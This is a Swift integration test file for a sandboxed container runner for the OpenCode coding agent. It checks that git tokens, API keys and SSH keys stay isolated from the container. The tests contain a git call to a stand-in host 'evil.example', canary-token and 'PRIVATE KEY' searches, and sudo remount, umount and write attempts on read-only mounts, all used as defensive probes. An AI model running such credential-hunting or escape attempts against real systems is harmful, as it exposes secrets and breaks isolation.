// SPDX-License-Identifier: Apache-2.0

import Core
import SystemPackage
import Testing

/// What a container gets from its caller: tokens, keys, the agent's settings, directories beside the project.
extension RunCheck {
    /// A git server with HTTPS inside the container, behind a proxy that answers for every host: a container without
    /// network reaches it, and it records git's credentials for each host.
    @Sendable static func https(_ harness: RunHarness) async throws {
        let token = "canary" + String(UInt64.random(in: 0 ... .max))
        let inside = """
            git init -q --bare /tmp/served/o/r.git
            python3 .server 18443 .certificate .key /tmp/served "$1" /tmp/log & server=$!
            export https_proxy=http://127.0.0.1:18443 GIT_SSL_CAINFO=/workspace/.certificate GIT_TERMINAL_PROMPT=0
            for i in $(seq 200); do nc -z 127.0.0.1 18443 && break; sleep 0.05; done
            git clone -q https://github.com/o/r.git /tmp/c 2> /dev/null && cd /tmp/c &&
            git commit -q --allow-empty -m by-token && git push -q origin HEAD:main && git clone -q https://github.com/o/r.git /tmp/d
            git -C /tmp/d log --format=%s; git ls-remote https://evil.example/o/r.git 2> /dev/null; echo "evil $?"
            grep -c 'github.com right' /tmp/log | sed 's/[1-9][0-9]*/signed in/'; grep evil /tmp/log | sort -u
            printf 'x-access-token:%s' "$(gh auth token)" | sha256sum | grep -c "$1"
            git -C /tmp/c remote -v; grep -rl 'canary[0-9]' /tmp ~ /workspace 2> /dev/null; kill $server
            """
        let script = """
            cp "$2" .server; openssl req -x509 -newkey rsa:2048 -nodes -keyout .key -out .certificate -days 1 -subj /CN=x \
                -addext subjectAltName=DNS:github.com,DNS:evil.example 2> /dev/null; chmod 644 .key
            sum=$(printf 'x-access-token:%s' "$1" | sha256sum | cut -c -64)
            GH_TOKEN=$1 "$PROGRAM" run --quiet --network none -- sh -c "$3" sh "$sum"; rm .server .key .certificate
            grep -rl "$1" "$OPENCODE_DOCKER_STATE" "$HOME" .
            """
        let server = Harness.repository.pushing("Tests/CommandsIntegrationTests/Fixtures/git-https.py")
        let ending = try await harness.host(script, [token, server.string, inside])
        let remote = "origin\thttps://github.com/o/r.git"
        #expect(
            ending.output
                == "by-token\nevil 128\nsigned in\nevil.example nothing\n1\n\(remote) (fetch)\n\(remote) (push)\n",
            "\(harness.engine) \(ending.error)")
    }

    /// The output of `settings`.
    private static let expectedSettings = """
        mine
        rule
        skill
        {"one":{"key":"key-one","type":"api"}}
        held
        .config
        .local/share
        .local/state
        .cache
        policy of root
        1
        mine
        64
        1
        mine
        {}
        mine again

        """

    /// OpenCode's own directories: a copy that it may change, only the chosen provider, a read-only policy.
    @Sendable static func settings(_ harness: RunHarness) async throws {
        let inside = """
            cd ~; cat .config/opencode/opencode.json .config/opencode/rule .agents/skills/one; echo changed > .config/opencode/opencode.json
            cat .local/share/opencode/auth.json; echo; (echo x > .local/share/opencode/auth.json) 2> /dev/null || echo held
            for d in .config .local/share .local/state .cache; do mkdir -p $d/opencode && touch $d/opencode/t && echo $d; done
            (echo x > /etc/opencode/opencode.json) 2> /dev/null || echo policy of $(stat -c %U /etc/opencode/opencode.json)
            printenv OPENCODE_DISABLE_AUTOUPDATE; grep -rl 'key-[t]wo' ~ /run /workspace 2> /dev/null
            """
        let script = """
            mkdir -p "$HOME/.config/opencode" "$HOME/.local/share/opencode"; echo mine > "$HOME/.config/opencode/opencode.json"
            mkdir -p "$HOME/.agents/skills"; echo skill > "$HOME/.agents/skills/one"; echo rule > "$HOME/.config/opencode/rule"
            echo '{"one":{"type":"api","key":"key-one"},"two":{"type":"api","key":"key-two"}}' \
                > "$HOME/.local/share/opencode/auth.json"
            "$PROGRAM" run --network none --provider one -- sh -c "$1"
            cat "$HOME/.config/opencode/opencode.json"; grep -rl 'key-' "$OPENCODE_DOCKER_STATE"
            "$PROGRAM" run --network none --provider three -- true 2> err; echo $?; grep -c "'one', 'two'" err; rm err
            rm "$HOME/.config/opencode/rule" "$HOME/.agents/skills/one"
            "$PROGRAM" run --network none -- sh -c 'cd ~; find .agents .config/opencode -name one -o -name rule'
            "$PROGRAM" run --network none -- sh -c 'cd ~; cat .config/opencode/opencode.json .local/share/opencode/auth.json; echo "{}" > .local/share/opencode/auth.json && echo mine again'
            """
        let ending = try await harness.host(script, [inside])
        #expect(ending.output == expectedSettings, "\(harness.engine) \(ending.error)")
    }

    /// A sign-in that the agent renews in the container: the new tokens reach the caller's file, and nothing else does.
    @Sendable static func renewal(_ harness: RunHarness) async throws {
        let script = """
            auth=$HOME/.local/share/opencode/auth.json; mkdir -p "${auth%/*}"; umask 077
            echo '{"one":{"type":"oauth","access":"a","refresh":"r","expires":1},"two":{"type":"api","key":"k"}}' > "$auth"
            "$PROGRAM" run --network none --provider one -- sh -c 'cat > ~/.local/share/opencode/auth.json' <<'END'
            {"one":{"type":"oauth","access":"A","refresh":"R","expires":9,"enterpriseUrl":"x"},"three":{"type":"api","key":"k"}}
            END
            jq -Sc . "$auth"; stat -c %a "$auth"
            "$PROGRAM" run --network none --provider one -- sh -c 'cd ~/.local/share/opencode; echo "{" > auth.json; ln auth.json /tmp/x; rm -f auth.json; cat /run/opencode-session/auth.json'
            jq -Sc . "$auth"; rm -r "$HOME/.local/share/opencode"
            """
        let ending = try await harness.host(script)
        let kept = #"{"one":{"access":"A","expires":9,"refresh":"R","type":"oauth"},"two":{"key":"k","type":"api"}}"#
        #expect(ending.output == "\(kept)\n600\n{\n\(kept)\n", "\(harness.engine) \(ending.error)")
        #expect(ending.error.contains("stored on the host: 'one'"), "\(harness.engine) \(ending.error)")
    }

    /// A key for coding agents: created here, forwarded as signatures, and never a file in the container.
    @Sendable static func dedicatedKey(_ harness: RunHarness) async throws {
        let inside = """
            ssh-add -L | cut -d ' ' -f 1,2; ! grep -rlE 'PRIVATE[ ]KEY' /home /tmp /run /workspace 2> /dev/null && echo nokeys
            """
        let script = """
            "$PROGRAM" key create > created 2>&1; echo $?; rm created; key="$HOME/.config/opencode-docker/ssh/id_ed25519"
            stat -c %a "$key"; "$PROGRAM" run --network none -- sh -c "$1"; cut -d ' ' -f 1,2 "$key.pub"
            "$PROGRAM" run --network none --no-credentials -- sh -c 'ssh-add -l > /dev/null 2>&1 || echo none'
            ls "$XDG_RUNTIME_DIR"/opencode-docker-0; "$PROGRAM" key create > /dev/null 2>&1 || echo kept
            """
        let lines = try await harness.host(script, [inside]).output.split(separator: "\n").map(String.init)
        #expect(lines.count == 7 && lines[0] == "0" && lines[1] == "600" && lines[3] == "nokeys", "\(lines)")
        #expect(lines.count == 7 && lines[2] == lines[4] && lines[2].hasPrefix("ssh-ed25519 "), "\(lines)")
        #expect(lines.suffix(2) == ["none", "kept"], "\(harness.engine) \(lines)")
    }

    /// Read-only directories cannot be written to in any way; files in writable ones belong to the caller.
    @Sendable static func directories(_ harness: RunHarness) async throws {
        let attempts = [
            "echo x > /mnt/docs/f", "echo x > /mnt/docs/new", "chmod 777 /mnt/docs/f", "mv /mnt/docs/f /mnt/docs/g",
            "rm /mnt/docs/f", "sudo -n sh -c 'echo x > /mnt/docs/f'", "sudo -n mount -o remount,rw /mnt/docs",
            "sudo -n umount /mnt/docs", "mv /mnt/docs /mnt/d",
        ]
        let tries = attempts.map { "if (\($0)) 2> /dev/null; then echo \"done: \($0)\" | tr \"'\" ' '; fi" }
        let inside = (tries + ["cat /mnt/docs/f; echo made > /mnt/more/made"]).joined(separator: "\n")
        let script = """
            mkdir ../docs ../more; echo here > ../docs/f; chown -R "$2:$2" ../docs ../more
            "$PROGRAM" run --network none --add-dir ../docs:ro --add-dir ../more -- sh -c "$1"
            stat -c %u ../more/made; ls ../docs; rm -r ../docs ../more
            """
        let ending = try await harness.host(script, [inside, "\(RunHarness.owner)"])
        #expect(ending.output == "here\n\(RunHarness.owner)\nf\n", "\(harness.engine) \(ending.error)")
    }

    /// The machine's own Debian mirrors for apt, read-only; absent without network or root.
    @Sendable static func mirrors(_ harness: RunHarness) async throws {
        let list = "cat /etc/apt/sources.list.d/*.sources"
        let look = "\(list); (sudo -n sh -c 'echo x > /etc/apt/sources.list.d/x.list') 2> /dev/null || echo held"
        let open = try await harness.host("\"$PROGRAM\" run --network full -- sh -c \"$1\"", [look])
        let own = try await harness.host(
            "apt-get indextargets --format '$(REPO_URI) $(RELEASE)' | sed 's,/* , ,' | sort -u")
        let places = Set(
            own.output.split(separator: "\n").filter { $0.contains(" bookworm") }.compactMap {
                $0.split(separator: " ").first
            })
        #expect(!places.isEmpty && open.output.hasSuffix("held\n"), "\(harness.engine) \(open.error)")
        for place in places { #expect(open.output.contains(place), "\(open.output)") }
        #expect(try await harness.inside(list).output.contains("https://snapshot.debian.org/archive/debian/"))
        guard harness.engine == "embedded" else { return }
        let install =
            "sudo apt-get -qq update && sudo apt-get -qq install -y cowsay > /dev/null 2>&1 && dpkg-query -W cowsay"
        #expect(try await harness.host("\"$PROGRAM\" run -- sh -c \"$1\"", [install]).output.hasPrefix("cowsay\t"))
    }
}
